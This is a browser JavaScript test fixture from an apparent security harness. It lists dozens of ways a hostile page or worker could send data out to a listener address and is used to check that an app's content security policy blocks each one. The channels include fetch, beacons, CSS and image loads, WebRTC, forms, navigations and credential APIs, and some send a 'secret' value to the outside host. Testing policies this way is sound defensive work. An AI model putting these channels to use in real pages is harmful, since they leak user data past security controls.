// @ts-nocheck: it is no module, and calls what no type knows
// biome-ignore-all lint/correctness/noUnusedVariables: the line that attempts.mjs puts behind it uses them
/*
 * What a page or a worker of ours could do to get a byte out, if its code were hostile: a function each, given an address of a
 * listener (`away`), a name that nobody else has (`domain`) and an address of the app's own origin (`own`). Runs in browsers only, in place of the app's script; the harness
 * (attempts.mjs) puts `attempt` before it and a call of `tryWay` behind it.
 */

const policy = globalThis.trustedTypes?.createPolicy('tarsight-worker', {
  createHTML: (text) => text,
  createScript: (text) => text,
  createScriptURL: (text) => text,
});
const html = (text) => policy?.createHTML(text) ?? text;
const code = (text) => policy?.createScript(text) ?? text;
const url = (text) => policy?.createScriptURL(text) ?? text;

/** Puts an element into the page. */
function add(name, properties) {
  const element = document.createElement(name);
  for (const [key, value] of Object.entries(properties)) {
    if (key in element) element[key] = value;
    else element.setAttribute(key, value);
  }
  (document.body ?? document.documentElement).append(element);
  return element;
}

const link = (rel, href, more = {}) => add('link', { rel, href, ...more });
const follow = (properties) => add('a', properties).click();
const markup = (text) => add('div', {}).insertAdjacentHTML('beforeend', html(text));
const frame = (text) => add('iframe', { srcdoc: html(text) });
const blobOf = (text, type) => URL.createObjectURL(new Blob([text], { type }));
const blobPage = (address) =>
  blobOf(`<img src="${address}"><script>fetch("${address}", { mode: "no-cors" })</script>`, 'text/html');
const styled = (text) => {
  const sheet = new CSSStyleSheet();
  sheet.replaceSync(text);
  document.adoptedStyleSheets = [sheet];
};
/** Talks to a server for WebRTC, which is the way of its own that no policy knows. */
const call = (scope, { host }) => {
  const Peer = scope[['RTC', 'PeerConnection'].join('')];
  const peer = new Peer({
    iceServers: [{ urls: `stun:${host}` }, { urls: `turn:${host}`, username: 'secret', credential: 'x' }],
  });
  peer.createDataChannel('x');
  return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
};

/** Ways that page and worker have alike. */
const anyWays = {
  fetch: ({ away }) => fetch(away, { mode: 'no-cors' }),
  fetchPost: ({ away }) => fetch(away, { mode: 'no-cors', method: 'POST', body: 'secret' }),
  fetchKeepalive: ({ away }) => fetch(away, { keepalive: true, mode: 'no-cors' }),
  fetchOwn: ({ own }) => fetch(own),
  request: ({ away }) => {
    const request = new XMLHttpRequest();
    request.open('GET', away);
    request.send();
  },
  webSocket: ({ away }) => new WebSocket(away.replace('http', 'ws')),
  eventSource: ({ away }) => new EventSource(away),
  webSocketStream: ({ away }) => new WebSocketStream(away.replace('http', 'ws')).opened,
  fetchToken: ({ away }) =>
    fetch(away, { mode: 'no-cors', privateToken: { version: 1, operation: 'token-request' } }),
  importJson: ({ away }) => import(away, { with: { type: 'json' } }),
  webTransport: ({ away }) => new WebTransport(away.replace('http:', 'https:')),
  importModule: ({ away }) => import(away),
  importOwn: ({ own }) => import(own),
  evalText: ({ away }) =>
    // biome-ignore lint/security/noGlobalEval: that is what is tried
    globalThis.eval(code(`fetch(${JSON.stringify(away)}, { mode: 'no-cors' })`)),
  cacheAdd: async ({ away }) => (await caches.open('x')).add(new Request(away, { mode: 'no-cors' })),
  font: ({ away }) => {
    const font = new FontFace('x', `url(${away})`);
    (globalThis.document?.fonts ?? globalThis.fonts).add(font);
    return font.load();
  },
  workerUrl: ({ unbound }) => new Worker(url(unbound)),
  workerBlob: ({ away }) =>
    new Worker(
      url(
        blobOf(
          `fetch(${JSON.stringify(away)}, { mode: 'no-cors' }); importScripts(${JSON.stringify(away)})`,
          'text/javascript',
        ),
      ),
    ),
  workerData: ({ away }) =>
    new Worker(url(`data:text/javascript,fetch(${encodeURIComponent(JSON.stringify(away))})`)),
  workerAway: ({ away }) => new Worker(url(away)),
  workerOwn: ({ own }) => new Worker(url(own)),
};

const workerWays = {
  ...anyWays,
  importScript: ({ away }) => importScripts(url(away)),
};

const pageWays = {
  ...anyWays,
  beacon: ({ away }) => navigator.sendBeacon(away, 'secret'),
  fetchLater: ({ away }) => fetchLater(away, { activateAfter: 0 }),

  image: ({ away }) => add('img', { src: away }),
  imageSet: ({ away }) => add('img', { srcset: `${away} 1x` }),
  imageSource: ({ away }) => markup(`<picture><source srcset="${away}"><img></picture>`),
  imageInput: ({ away }) => add('input', { type: 'image', src: away }),
  imageAttribution: ({ away }) => add('img', { attributionsrc: away }),
  background: ({ away }) => document.body.setAttribute('background', away),
  imageOwn: ({ own }) => add('img', { src: own }),
  imageInSvg: ({ away }) => markup(`<svg><image href="${away}"/><use href="${away}#x"/></svg>`),
  imageFilter: ({ away }) =>
    markup(
      `<svg><filter id="f"><feImage href="${away}"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>`,
    ),
  transform: ({ away }) => {
    const sheet = new DOMParser().parseFromString(
      html(
        `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:import href="${away}"/><xsl:template match="/"><x><xsl:value-of select="document('${away}')"/></x></xsl:template></xsl:stylesheet>`,
      ),
      'text/xml',
    );
    const processor = new XSLTProcessor();
    processor.importStylesheet(sheet);
    return processor.transformToFragment(document, document);
  },
  policyReport: ({ away }) => {
    document.head.append(
      Object.assign(document.createElement('meta'), {
        httpEquiv: 'Content-Security-Policy',
        content: `img-src 'none'; report-uri ${away}`,
      }),
    );
    add('img', { src: 'x' });
  },
  poster: ({ away }) => add('video', { poster: away, src: away }),
  audio: ({ away }) => new Audio(away).load(),
  track: ({ away }) => {
    const video = add('video', { src: blobOf('', 'video/mp4') });
    const track = document.createElement('track');
    Object.assign(track, { src: away, default: true });
    video.append(track);
    track.track.mode = 'showing';
  },
  object: ({ away }) => add('object', { data: url(away) }),
  embed: ({ away }) => add('embed', { src: url(away) }),
  mediaArtwork: ({ away }) => {
    navigator.mediaSession.metadata = new MediaMetadata({ title: 'x', artwork: [{ src: away }] });
  },

  styleProperty: ({ away }) => {
    document.body.style.backgroundImage = `url(${away})`;
  },
  styleElement: ({ away }) =>
    add('style', { textContent: `@import url(${away}); body { background: url(${away}) }` }),
  styleSheet: ({ away }) =>
    styled(`body { background: url(${away}) !important; cursor: url(${away}), auto }`),
  styleMask: ({ away }) =>
    styled(
      `body { mask-image: url(${away}); filter: url(${away}#x); border-image: image-set("${away}" 1x) 1; shape-outside: url(${away}); float: left }`,
    ),
  styleFont: ({ away }) => {
    styled(`@font-face { font-family: y; src: url(${away}) } body { font-family: y }`);
    add('p', { textContent: 'text' });
  },
  styleLink: ({ away }) => link('stylesheet', away),
  styleOwn: ({ own }) => link('stylesheet', own),
  fontOwn: ({ own }) => {
    const font = new FontFace('z', `url(${own})`);
    document.fonts.add(font);
    return font.load();
  },

  script: ({ away }) => add('script', { src: url(away) }),
  scriptOwn: ({ own }) => add('script', { src: url(own) }),
  scriptInline: ({ away }) => add('script', { textContent: code(`fetch("${away}", { mode: 'no-cors' })`) }),
  handler: ({ away }) => markup(`<img src="x" onerror="new Image().src = '${away}'">`),
  worklet: ({ away }) => CSS.paintWorklet?.addModule(away) ?? new AudioContext().audioWorklet.addModule(away),

  prefetch: ({ away }) => link('prefetch', away),
  preload: ({ away }) => link('preload', away, { as: 'fetch' }),
  modulePreload: ({ away }) => link('modulepreload', away),
  preconnect: ({ away }) => link('preconnect', away),
  icon: ({ away }) => link('icon', away),
  manifest: ({ away }) => link('manifest', away),
  speculation: ({ away }) =>
    add('script', {
      type: 'speculationrules',
      textContent: code(
        JSON.stringify({ prefetch: [{ source: 'list', urls: [away], eagerness: 'immediate' }] }),
      ),
    }),

  prerender: ({ away }) =>
    add('script', {
      type: 'speculationrules',
      textContent: code(JSON.stringify({ prerender: [{ urls: [away], eagerness: 'immediate' }] })),
    }),
  notification: ({ away }) => new Notification('x', { icon: away, image: away }),
  payment: ({ away }) =>
    new PaymentRequest([{ supportedMethods: away }], {
      total: { label: 'x', amount: { currency: 'EUR', value: '1' } },
    }).show(),
  credentials: ({ away }) =>
    navigator.credentials.get({ identity: { providers: [{ configURL: away, clientId: 'secret' }] } }),

  identityDisconnect: ({ away }) =>
    IdentityCredential.disconnect({ configURL: away, clientId: 'secret', accountHint: 'x' }),
  passwordIcon: ({ away }) =>
    navigator.credentials.store(new PasswordCredential({ id: 'x', password: 'y', iconURL: away })),
  digitalCredential: ({ away }) =>
    navigator.credentials.get({
      digital: { requests: [{ protocol: 'openid4vp-v1-unsigned', data: { request_uri: away } }] },
    }),
  webAuthnGet: ({ domain }) =>
    navigator.credentials.get({ publicKey: { challenge: new Uint8Array(16), rpId: domain } }),
  webAuthnCreate: ({ domain }) =>
    navigator.credentials.create({
      publicKey: {
        challenge: new Uint8Array(16),
        rp: { id: domain, name: 'x' },
        user: { id: new Uint8Array(8), name: 'x', displayName: 'x' },
        pubKeyCredParams: [{ type: 'public-key', alg: -7 }],
      },
    }),
  webAuthnUnknown: ({ domain }) =>
    PublicKeyCredential.signalUnknownCredential({ rpId: domain, credentialId: 'AAAA' }),
  webAuthnAccepted: ({ domain }) =>
    PublicKeyCredential.signalAllAcceptedCredentials({
      rpId: domain,
      userId: 'AAAA',
      allAcceptedCredentialIds: [],
    }),
  webAuthnUser: ({ domain }) =>
    PublicKeyCredential.signalCurrentUserDetails({
      rpId: domain,
      userId: 'AAAA',
      name: 'x',
      displayName: 'x',
    }),
  sharedStorage: ({ away }) => sharedStorage.worklet.addModule(away),
  sharedStorageWorklet: ({ away }) => sharedStorage.createWorklet(away, { dataOrigin: 'script-origin' }),
  interestGroup: ({ domain }) =>
    navigator.joinAdInterestGroup(
      {
        owner: `https://${domain}`,
        name: 'secret',
        lifetimeMs: 1e6,
        biddingLogicURL: `https://${domain}/x`,
      },
      1000,
    ),
  interestGroupLeave: ({ domain }) =>
    navigator.leaveAdInterestGroup({ owner: `https://${domain}`, name: 'secret' }),
  adAuction: ({ domain }) =>
    navigator.runAdAuction({
      seller: `https://${domain}`,
      decisionLogicURL: `https://${domain}/x`,
      interestGroupBuyers: [`https://${domain}`],
    }),
  storageAccess: ({ domain }) => document.requestStorageAccessFor(`https://${domain}`),
  install: ({ away }) => navigator.install(away, away),
  dnsPrefetch: ({ domain }) => link('dns-prefetch', `//${domain}`),
  preconnectName: ({ domain }) => link('preconnect', `https://${domain}`),

  iframe: ({ away }) => add('iframe', { src: away }),
  iframeCredentialless: ({ away }) => add('iframe', { credentialless: true, src: away }),
  frameset: ({ away }) => {
    const set = document.createElement('frameset');
    const own = document.createElement('frame');
    own.src = away;
    set.append(own);
    document.body.replaceWith(set);
  },
  fencedFrame: ({ away }) => add('fencedframe', { config: new FencedFrameConfig(away) }),
  portal: ({ away }) => add('portal', { src: away }),
  iframeText: ({ away }) => frame(`<img src="${away}">`),
  iframeBlob: ({ away }) => add('iframe', { src: blobPage(away) }),
  iframeBlank: ({ away }) => {
    const image = add('iframe', {}).contentDocument.createElement('img');
    image.src = away;
  },
  iframeNested: () => {
    // The page's own script once more, in a frame of its own: as the policy of hashes would have it.
    const [source] = [...document.scripts].map(({ text }) => text).filter((text) => text !== '');
    if (!attempt.isNested && source)
      frame(`<script type="module">${source.replace('"isNested":false', '"isNested":true')}</script>`);
    else return fetch(attempt.away, { mode: 'no-cors' });
  },

  formGet: ({ away }) => {
    const form = add('form', { action: away });
    form.append(Object.assign(document.createElement('input'), { name: 'q', value: 'secret' }));
    form.submit();
  },
  formButton: ({ away }) => {
    const form = add('form', { method: 'post' });
    const button = Object.assign(document.createElement('button'), { formAction: away });
    form.append(button);
    button.click();
  },
  formBlank: ({ away }) => add('form', { action: away, target: '_blank' }).requestSubmit(),
  formPost: ({ away }) => add('form', { method: 'post', action: away }).submit(),
  base: ({ away }) => {
    document.head.append(Object.assign(document.createElement('base'), { href: away }));
    new Image().src = 'relative';
  },

  location: ({ away }) => {
    location.href = away;
  },
  locationReplace: ({ away }) => location.replace(away),
  locationTop: ({ away }) => {
    top.location.href = away;
  },
  locationOwn: ({ own }) => {
    location.href = own;
  },
  locationBlob: ({ away }) => {
    location.href = blobPage(away);
  },
  locationScript: ({ away }) => {
    location.href = `javascript:void(location.href = ${JSON.stringify(away)})`;
  },
  navigation: ({ away }) => navigation.navigate(away).finished,
  anchor: ({ away }) => follow({ href: away }),
  anchorBlank: ({ away }) => follow({ href: away, target: '_blank' }),
  anchorTop: ({ away }) => follow({ href: away, target: '_top' }),
  anchorPing: ({ away }) => follow({ href: '#x', ping: away }),
  anchorDownload: ({ away }) => follow({ href: away, download: 'x' }),
  anchorReferrer: ({ own }) => follow({ href: own, target: '_blank' }),
  open: ({ away }) => open(away),
  openAlone: ({ away }) => open(away, '_blank', 'noopener'),
  metaRefresh: ({ away }) =>
    document.head.append(
      Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: `0;url=${away}` }),
    ),
  parentAnchor: ({ away }) => {
    const anchor = parent.document.createElement('a');
    anchor.href = away;
    parent.document.body.append(anchor);
    anchor.click();
  },

  webRtc: (addresses) => call(window, addresses),
  webRtcInFrame: (addresses) => call(add('iframe', {}).contentWindow, addresses),

  sharedWorker: ({ unbound }) => new SharedWorker(url(unbound)),
  serviceWorker: ({ unboundService }) => navigator.serviceWorker.register(url(unboundService)),
};

/** Says that a way is tried, and tries it; what it throws is what keeps it from leaking. */
async function tryWay(ways, say) {
  say(`tried ${attempt.id}`);
  // A page that goes elsewhere at once takes the line with it.
  await new Promise((resolve) => setTimeout(resolve, 100));
  try {
    await ways[attempt.way](attempt);
  } catch {
    // Refused.
  }
}
